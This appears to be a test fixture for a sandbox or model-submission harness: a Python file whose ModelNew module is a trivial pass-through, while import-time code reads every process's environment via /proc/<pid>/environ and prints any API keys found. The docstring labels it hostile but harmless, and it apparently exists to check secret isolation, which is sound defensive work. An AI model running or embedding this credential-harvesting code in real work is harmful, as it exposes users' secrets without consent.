"""Hostile but harmless: read the parent's (and every other process's) environment through
/proc/<pid>/environ, looking for API keys, and print what it found."""
import os

import torch

found = []
for pid in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            env = f.read()
    except OSError:
        continue
    found += [v.decode(errors="replace") for v in env.split(b"\0") if b"_API_KEY=" in v]
print("HOSTILE keys", sorted(set(found)))


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return x
